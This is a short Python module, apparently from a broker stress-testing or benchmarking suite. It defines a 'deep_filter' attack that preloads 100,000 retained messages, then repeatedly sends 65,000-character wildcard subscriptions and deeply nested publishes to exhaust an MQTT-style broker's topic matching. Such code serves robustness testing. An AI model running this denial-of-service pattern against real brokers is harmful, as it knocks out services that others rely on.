# SPDX-License-Identifier: Apache-2.0
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import Broker

RETAINED, SUBSCRIBES, PUBLISHES = 100_000, 10, 10
# 65 000 bytes, of the 65 535 that a string may have.
DEEP_FILTER, DEEP_TOPIC = "+/" * 32_500, "a/" * 32_500


def deep_filter(broker: Broker) -> Generator[None, None, None]:
    """SUBSCRIBEs of `+/+/...` and PUBLISHes to `a/a/...`, each of 65 000 characters, against 100 000 retained messages"""
    message = packets.publish(DEEP_TOPIC, b"x", retain=True)
    broker.retain(RETAINED)
    yield
    while True:
        with broker.connect() as client:
            for _ in range(SUBSCRIBES):
                client.subscribe([DEEP_FILTER])
            client.send(message * PUBLISHES)
            client.read_for(0.1)
        yield
